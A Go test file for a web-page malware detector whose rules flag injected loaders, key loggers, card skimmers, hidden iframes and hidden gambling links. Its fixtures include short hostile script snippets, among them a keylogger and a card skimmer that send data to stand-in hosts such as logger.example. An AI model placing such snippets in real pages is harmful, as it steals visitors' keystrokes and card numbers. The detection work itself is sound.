package fingerprint

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/tools/txtar"

	"pitboss/data"
	"pitboss/data/reference"
)

// dangerPages reads made-up pages from testdata.
func dangerPages(t testing.TB, name string) []txtar.File {
	t.Helper()
	a, err := txtar.ParseFile(filepath.Join("testdata", "danger", name))
	if err != nil {
		t.Fatal(err)
	}
	return a.Files
}

func rulesIn(found []data.Danger) []string {
	var out []string
	for _, d := range found {
		if !slices.Contains(out, d.Rule) {
			out = append(out, d.Rule)
		}
	}
	return out
}

// TestDangerShapes fires every rule on two documented shapes, and says where.
func TestDangerShapes(t *testing.T) {
	t.Parallel()
	shapes := map[string]int{}
	for _, f := range dangerPages(t, "shapes.txtar") {
		rule, _, _ := strings.Cut(f.Name, "/")
		shapes[rule]++
		t.Run(f.Name, func(t *testing.T) {
			t.Parallel()
			body := string(f.Data)
			if !strings.HasPrefix(body, "<!-- after: ") {
				t.Error("the first line names no source")
			}
			found := dangersOf(capture(body))
			i := slices.IndexFunc(found, func(d data.Danger) bool { return d.Rule == rule })
			if i < 0 {
				t.Fatalf("fired %v, want %s", found, rule)
			}
			d := found[i]
			if d.Detail == "" || d.Meaning == "" || d.Source != "https://shop.example/" || d.Offset < 0 || d.Offset >= len(body) {
				t.Errorf("danger %+v has no place", d)
			}
		})
	}
	for i := range reference.DangerSigns() {
		if name := reference.DangerSigns()[i].Name; shapes[name] < 2 {
			t.Errorf("%s: %d documented shapes, want 2", name, shapes[name])
		}
	}
}

// TestDangerHarmless holds all rules to stay silent on pages that look alike,
// also when their scripts stand in files.
func TestDangerHarmless(t *testing.T) {
	t.Parallel()
	for _, f := range dangerPages(t, "harmless.txtar") {
		t.Run(f.Name, func(t *testing.T) {
			t.Parallel()
			if found := dangersOf(capture(string(f.Data))); len(found) > 0 {
				t.Errorf("fired: %+v", found)
			}
			script := strings.NewReplacer("<script>", "", "</script>", "").Replace(string(f.Data))
			if !strings.HasPrefix(string(f.Data), "<script>") {
				return
			}
			if found := dangersOf(capture("<p>x", file(data.RoleScript, "/a.js", "text/javascript", script))); len(found) > 0 {
				t.Errorf("as a file it fired: %+v", found)
			}
		})
	}
}

// TestDangerPlaces holds a sign to the place where it stands: in a script of
// the page, and in a file.
func TestDangerPlaces(t *testing.T) {
	t.Parallel()
	code := `/* é */ if ( ndsw === undefined ) { var h = new XMLHttpRequest(); }`
	page := `<p>€</p><script>` + code + `</script>`
	found := dangersOf(capture(page, file(data.RoleScript, "/a.js", "text/javascript", "\n"+code+code)))
	want := []data.Danger{{
		Rule: "injected-loader", Meaning: "the NDSW/NDSX loader stands in the script",
		Detail: "ndsw===undefined, xmlhttprequest", Source: "https://shop.example/", Offset: strings.Index(page, "ndsw"),
	}}
	if diff := cmp.Diff(want, found); diff != "" {
		t.Errorf("the same sign stands once, where it was first seen (-want +got):\n%s", diff)
	}
	found = dangersOf(capture("<p>x", file(data.RoleScript, "/a.js", "text/javascript", "\n"+code)))
	if len(found) != 1 || found[0].Source != "https://shop.example/a.js" || found[0].Offset != 1+strings.Index(code, "ndsw") {
		t.Errorf("in a file: %+v", found)
	}
}

// TestDangerParts moves one part of a rule at a time out of what it asks for.
func TestDangerParts(t *testing.T) {
	t.Parallel()
	script := func(gap, host string) string {
		return `<script>addEventListener("keydown", function(e){ log += e.key });` + gap + ` new Image().src = "https://` + host + `/c?" + log;</script>`
	}
	tests := map[string]struct {
		page string
		want []string
	}{
		"fires":                {script("", "logger.example"), []string{"key-logger"}},
		"in other case":        {strings.Replace(script("", "LOGGER.example"), "https", "HTTPS", 1), []string{"key-logger"}},
		"white space":          {script(strings.Repeat(" ", 300), "logger.example"), []string{"key-logger"}},
		"too far apart":        {script(strings.Repeat(" ", 2000), "logger.example"), nil},
		"own host":             {script("", "static.shop.example"), nil},
		"shared service":       {script("", "www.google-analytics.com"), nil},
		"escaped slashes":      {strings.ReplaceAll(script("", "logger.example"), "//", `\/\/`), []string{"key-logger"}},
		"address in base64":    {strings.ReplaceAll(script("", "x"), `"https://x/c?"`, `atob("aHR0cHM6Ly9sb2dnZXIuZXhhbXBsZS9j")`), []string{"key-logger"}},
		"own host in base64":   {strings.ReplaceAll(script("", "x"), `"https://x/c?"`, `atob("aHR0cHM6Ly93d3cuc2hvcC5leGFtcGxlL2M=")`), nil},
		"comparison":           {`<script>if (/Android/.test(navigator.userAgent) && location == "https://other.example/") go();</script>`, nil},
		"data island":          {strings.Replace(script("", "logger.example"), "<script>", `<script type="application/json">`, 1), nil},
		"module":               {strings.Replace(script("", "logger.example"), "<script>", `<script type="module">`, 1), []string{"key-logger"}},
		"commented-out script": {"<!--" + script("", "logger.example") + "-->", nil},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tc.want, rulesIn(dangersOf(capture(tc.page)))); diff != "" {
				t.Errorf("rules (-want +got):\n%s", diff)
			}
		})
	}
}

// TestDangerOfOtherHosts tells what a shared script from elsewhere may do from
// what one of the site's own may.
func TestDangerOfOtherHosts(t *testing.T) {
	t.Parallel()
	logger := `addEventListener("keydown", function(e){ log += e.key }); new Image().src = "https://stats.widget.example/c?" + log;`
	skimmer := `var n = document.querySelector("#x").value, cc = form["card_number"].value; fetch("https://stats.widget.example/g", {body: btoa(cc)});`
	from := func(url, body string) []string {
		r := file(data.RoleScript, "", "text/javascript", body)
		r.URL = url
		return rulesIn(dangersOf(capture("<p>x", r)))
	}
	if got := from("https://cdn.widget.example/w.js", logger); got != nil {
		t.Errorf("a widget that talks to its own maker fired %v", got)
	}
	if got := from("https://shop.example/w.js", logger); !slices.Contains(got, "key-logger") {
		t.Errorf("the same in a file of the site fired %v, want key-logger", got)
	}
	if got := from("https://cdn.widget.example/w.js", skimmer); !slices.Contains(got, "card-skimmer") {
		t.Errorf("cards sent to the script's maker fired %v, want card-skimmer", got)
	}
}

// TestDangerLinksNeedHarmlessPage leaves a gambling site its hidden menu.
func TestDangerLinksNeedHarmlessPage(t *testing.T) {
	t.Parallel()
	doc := parseDocument(&data.Resource{URL: "https://shop.example/", ContentType: "text/html", Body: []byte(
		`<div style="display:none"><a href="https://a.example/">online casino</a><a href="https://b.example/">sports betting odds</a><a href="https://c.example/">online casino</a></div>`)})
	c := capture("")
	for page, want := range map[data.PageType]int{data.PageHarmless: 1, data.PageCompromised: 1, data.PageGambling: 0} {
		judged := data.Assessment{Page: page, Gambling: map[data.PageType]float64{data.PageGambling: 0.99, data.PageCompromised: 0.7}[page]}
		if got := dangers(c, []*document{doc}, "shop.example", &judged); len(got) != want {
			t.Errorf("%s: %v, want %d", page, got, want)
		}
	}
}

// TestDangerBounds feeds more of everything than is reported.
func TestDangerBounds(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	for i := range 200 {
		fmt.Fprintf(&b, `<iframe src="https://f%d.example/" width=0 height=0></iframe><form action="https://g%d.example/p"><input type=password></form>`, i, i)
	}
	found := dangersOf(capture(b.String()))
	if n := len(found); n != 2*maxDangersOfRule {
		t.Errorf("%d signs, want %d of each of two rules", n, maxDangersOfRule)
	}
}

// TestScannerFindsWhatSearchingFinds compares the scanner with the slow way.
func TestScannerFindsWhatSearchingFinds(t *testing.T) {
	t.Parallel()
	s := dangerScanner()
	var text strings.Builder
	for i, l := range s.literals {
		text.WriteString(strings.Repeat("x", i%5) + strings.ToUpper(l) + "\n;" + l[:literalHead] + strings.Repeat(" ", i%4) + l[literalHead:] + "~")
	}
	body := text.String()
	found := map[string]int{}
	for _, h := range s.scan([]byte(body)) {
		got := strings.ToLower(strings.NewReplacer(" ", "", "\n", "").Replace(body[h.start:h.end]))
		if want := strings.ReplaceAll(s.literals[h.literal], " ", ""); got != want {
			t.Fatalf("%q found as %q", got, want)
		}
		found[s.literals[h.literal]]++
	}
	for _, l := range s.literals {
		if found[l] < 2 {
			t.Errorf("%q found %d times, want 2", l, found[l])
		}
	}
}

// FuzzDangers reads hostile scripts and pages.
func FuzzDangers(f *testing.F) {
	for _, p := range append(dangerPages(f, "shapes.txtar"), dangerPages(f, "harmless.txtar")...) {
		f.Add(string(p.Data))
	}
	f.Add(strings.Repeat("location.href=", 1000))
	f.Add(`<iframe src="https://a.b/" style=":::;;`)
	f.Add("aHR0c//")
	f.Fuzz(func(t *testing.T, body string) {
		c := capture(body, file(data.RoleScript, "/a.js", "text/javascript", body))
		var docs []*document
		for i := range c.Resources {
			if c.Resources[i].Role == data.RoleHome {
				docs = append(docs, parseDocument(&c.Resources[i]))
			}
		}
		for _, d := range dangers(c, docs, "shop.example", &data.Assessment{Page: data.PageHarmless}) {
			if d.Rule == "" || d.Source == "" || d.Offset < 0 || d.Offset > len(body)*3 {
				t.Errorf("danger %+v", d)
			}
		}
	})
}

// BenchmarkDangerScript measures the scan of an ordinary long script.
func BenchmarkDangerScript(b *testing.B) {
	body := []byte(strings.Repeat(plainScript, 1+(1<<20)/len(plainScript)))
	d := &dangerSearch{host: "shop.example", scanner: dangerScanner(), found: map[string][]data.Danger{}}
	b.SetBytes(int64(len(body)))
	for b.Loop() {
		d.script(body, "https://shop.example/a.js", 0)
	}
}

// TestDangerHostile feeds the search what would make a careless one slow: many
// hits, many windows, many addresses. It ends because the work is bounded.
func TestDangerHostile(t *testing.T) {
	t.Parallel()
	const size = 4 << 20
	for name, piece := range map[string]string{
		"slashes":   `//`,
		"addresses": `"//a.example/`,
		"base64":    `aHR0cHM6Ly9`,
		"hits":      `location.href=document.referrer;`,
		"windows":   `"keydown e.key image( `,
		"spaces":    `eval(` + strings.Repeat(" ", 60),
		"wallets":   `"copy" setdata( 0x1111111111111111111111111111111111111111 `,
		"one run":   `x`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := &dangerSearch{host: "shop.example", scanner: dangerScanner(), found: map[string][]data.Danger{}}
			d.script([]byte(strings.Repeat(piece, size/len(piece))), "https://shop.example/a.js", 0)
			if n := len(d.list()); n > maxDangers {
				t.Errorf("%d signs, more than %d", n, maxDangers)
			}
		})
	}
}
